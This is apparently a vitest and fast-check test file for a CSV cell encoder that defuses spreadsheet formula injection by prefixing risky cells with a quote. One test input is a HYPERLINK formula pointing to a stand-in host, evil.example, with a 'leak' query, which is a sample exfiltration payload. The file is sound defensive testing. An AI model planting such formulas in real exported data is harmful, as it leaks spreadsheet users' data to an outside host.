import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { ADVERSARIAL_CSV_CELLS, decodeCsvCell, encodeCsvCell } from './csv-cell';

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
// Strings that often start with a trigger or a quote, so the properties meet them.
const cell = fc.oneof(
  fc.string({ unit: 'grapheme' }),
  fc.tuple(fc.constantFrom(...TRIGGERS, "'", "''", ' ', '"'), fc.string()).map(([head, tail]) => head + tail),
);

describe('encodeCsvCell', () => {
  it('neutralises a formula so a spreadsheet shows it as text', () => {
    expect(encodeCsvCell('=HYPERLINK("http://evil.example/?leak","Open policy")')).toBe('\'=HYPERLINK("http://evil.example/?leak","Open policy")');
    expect(encodeCsvCell('-2+3')).toBe("'-2+3");
    expect(encodeCsvCell('@SUM(A1)')).toBe("'@SUM(A1)");
  });

  it('leaves ordinary text alone', () => {
    expect(encodeCsvCell('Returns policy v2')).toBe('Returns policy v2');
    expect(encodeCsvCell('')).toBe('');
    expect(encodeCsvCell('a=b')).toBe('a=b');
  });

  it('never answers a cell a spreadsheet would evaluate', () => {
    fc.assert(fc.property(cell, (text) => !TRIGGERS.some((t) => encodeCsvCell(text).startsWith(t))));
  });

  it('round-trips: decoding strips exactly the one quote encoding added', () => {
    fc.assert(fc.property(cell, (text) => decodeCsvCell(encodeCsvCell(text)) === text));
  });

  it('changes a cell only by a leading quote, and only when it must', () => {
    fc.assert(
      fc.property(cell, (text) => {
        const encoded = encodeCsvCell(text);
        const mustQuote = [...TRIGGERS, "'"].some((t) => text.startsWith(t));
        return encoded === (mustQuote ? `'${text}` : text);
      }),
    );
  });

  it('the shared adversarial cells cover every trigger and the quote itself', () => {
    for (const head of [...TRIGGERS, "'"])
      expect(
        ADVERSARIAL_CSV_CELLS.some((c) => c.startsWith(head)),
        head,
      ).toBe(true);
  });
});
